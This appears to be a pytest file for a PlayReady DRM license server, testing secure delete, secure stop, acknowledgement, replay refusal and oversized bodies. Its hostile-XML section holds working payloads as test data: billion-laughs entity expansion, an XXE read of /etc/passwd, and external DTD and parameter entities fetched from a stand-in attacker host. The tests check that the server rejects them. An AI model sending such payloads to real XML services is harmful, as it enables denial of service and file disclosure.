"""Acknowledgement, Secure Stop and Secure Delete over real HTTP; hostile XML
(billion laughs, XXE, DTDs, oversized bodies) fails fast with a SOAP fault."""

from __future__ import annotations

import time

from device_emulator.cdm.widevine import CdmError
from license_server.core.model import LicenseKind
from license_server.protocols.playready import reports, soap

PERSISTENT = LicenseKind.PERSISTENT


async def _persistent(playready, device):
    cdm = playready.cdm(device)
    reply, loaded, _ = await playready.acquire(device, "demo-movie", PERSISTENT,
                                               query="?cfg=(persist:true)", cdm=cdm)
    assert not isinstance(loaded, CdmError), loaded
    return cdm, loaded


async def test_secure_delete_marks_the_license_released(playready, make_device, store):
    device = make_device("L1")
    cdm, loaded = await _persistent(playready, device)
    kids = tuple(k.kid for k in loaded.keys)
    pending = cdm.build_secure_delete(loaded.license_id, kids)
    reply = await playready.report(cdm, pending)
    assert reply.status == 200, reply.body
    answer = cdm.process_report_answer(pending, reply.body)
    assert answer.status == "released"
    record = store.license(loaded.license_id)
    assert record.state == "released" and record.released_at is not None
    assert any(e["event"] == "release" for e in store.audit_trail(license_id=loaded.license_id))
    again = cdm.build_secure_delete(loaded.license_id, kids)  # the device lost the first answer
    assert cdm.process_report_answer(again, (await playready.report(cdm, again)).body).status == "already-released"
    try:  # an answer to another report does not let the device purge
        cdm.process_report_answer(pending, (await playready.report(cdm, cdm.build_secure_delete(
            loaded.license_id, kids))).body)
        raise AssertionError("mismatched answer accepted")
    except CdmError as exc:
        assert exc.code == "LICENSE_MISMATCH"


async def test_secure_delete_refusals(playready, make_device, store):
    owner, stranger = make_device("L1"), make_device("L1")
    cdm, loaded = await _persistent(playready, owner)
    kids = tuple(k.kid for k in loaded.keys)
    other = playready.cdm(stranger)
    reply = await playready.report(other, other.build_secure_delete(loaded.license_id, kids))
    assert reply.status == 500 and reply.code == "LICENSE_NOT_FOUND"
    reply = await playready.report(cdm, cdm.build_secure_delete("00" * 16, kids))
    assert reply.code == "LICENSE_NOT_FOUND"
    reply = await playready.report(cdm, cdm.build_secure_delete(loaded.license_id, (bytes(16),)))
    assert reply.code == "MALFORMED_CHALLENGE"
    forged = cdm.build_secure_delete(loaded.license_id, kids).body.replace(b"<DeletedAt>", b"<DeletedAt>1")
    reply = await playready.post(forged, operation=reports.SECURE_DELETE)
    assert reply.code == "MALFORMED_CHALLENGE"  # digest mismatch
    _, temporary, _ = await playready.acquire(owner, cdm=cdm)
    reply = await playready.report(cdm, cdm.build_secure_delete(temporary.license_id, kids[:1]))
    assert reply.code == "UNSUPPORTED_REQUEST"
    assert store.license(loaded.license_id).state == "issued"


async def test_acknowledgement_is_recorded(playready, make_device, store):
    device = make_device("L1")
    cdm, loaded = await _persistent(playready, device)
    assert loaded.transaction_id == bytes.fromhex(loaded.license_id)
    pending = cdm.build_acknowledgement(loaded)
    reply = await playready.report(cdm, pending)
    assert cdm.process_report_answer(pending, reply.body).status == "acknowledged"
    assert any(e["event"] == "acknowledged" for e in store.audit_trail(license_id=loaded.license_id))
    reply = await playready.report(cdm, pending)  # the same report again
    assert reply.code == "REPLAYED_CHALLENGE"


async def test_secure_stop_records_the_playback_of_a_temporary_license(playready, make_device, store, clock):
    device = make_device("L1")
    cdm = playready.cdm(device)
    _, loaded, _ = await playready.acquire(device, cdm=cdm)
    kids = tuple(k.kid for k in loaded.keys)
    now = clock.now()
    pending = cdm.build_secure_stop(loaded.license_id, kids, start=now - 600, stop=now)
    reply = await playready.report(cdm, pending)
    assert cdm.process_report_answer(pending, reply.body).status == "recorded"
    entries = [e for e in store.audit_trail(license_id=loaded.license_id) if e["event"] == "secure_stop"]
    assert len(entries) == 1 and "(600 s)" in entries[0]["message"]
    assert store.license(loaded.license_id).first_used_at == now - 600
    assert (await playready.report(cdm, pending)).code == "REPLAYED_CHALLENGE"
    _, persistent = await _persistent(playready, device)
    reply = await playready.report(cdm, cdm.build_secure_stop(persistent.license_id, kids[:1], start=now, stop=now))
    assert reply.code == "UNSUPPORTED_REQUEST"


async def test_stale_reports_are_refused(playready, make_device, clock):
    device = make_device("L1")
    cdm, loaded = await _persistent(playready, device)
    pending = cdm.build_secure_delete(loaded.license_id, tuple(k.kid for k in loaded.keys))
    clock.advance(3600)
    reply = await playready.report(cdm, pending)
    assert reply.code == "REPLAYED_CHALLENGE"


# --------------------------------------------------------------- hostile XML

BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
                  b"<AcquireLicense>&lol9;</AcquireLicense></soap:Body></soap:Envelope>")
XXE = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
       b"<AcquireLicense>&xxe;</AcquireLicense></soap:Body></soap:Envelope>")
DTD_ONLY = (b'<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "http://attacker.invalid/x.dtd">'
            b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>')
PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p">%p;]>'
                    b"<x/>")


async def test_hostile_xml_fails_fast_with_a_soap_fault(playready, store):
    before = store.counts()
    for body in (BILLION_LAUGHS, XXE, DTD_ONLY, PARAMETER_ENTITY, b"<not-xml", b""):
        started = time.monotonic()
        reply = await playready.post(body)
        assert time.monotonic() - started < 2
        assert reply.status == 500 and reply.code == "MALFORMED_CHALLENGE", body[:60]
        assert reply.fault.status_code == 0x8004C601
        assert b"root:" not in reply.body
    assert store.counts() == before


async def test_oversized_bodies_are_refused(playready, make_device):
    pending = playready.cdm(make_device("L1")).build_challenge("demo-movie", LicenseKind.TEMPORARY)
    padded = pending.body.replace(b"<soap:Body>", b"<soap:Body>" + b" " * (70 * 1024))
    reply = await playready.post(padded)
    assert reply.status == 500 and reply.code == "CHALLENGE_TOO_LARGE"
    assert reply.fault.status_code == 0x8004C601  # DRM_E_SERVER_INVALID_MESSAGE; our code rides beside it


async def test_a_non_soap_or_incomplete_challenge_is_malformed(playready):
    for body in (b"<Envelope/>", soap.envelope("<AcquireLicense/>"),
                 soap.envelope('<AcquireLicense xmlns="urn:x"><challenge><Challenge><LA/></Challenge></challenge>'
                               "</AcquireLicense>")):
        reply = await playready.post(body)
        assert reply.status == 500 and reply.code == "MALFORMED_CHALLENGE", body
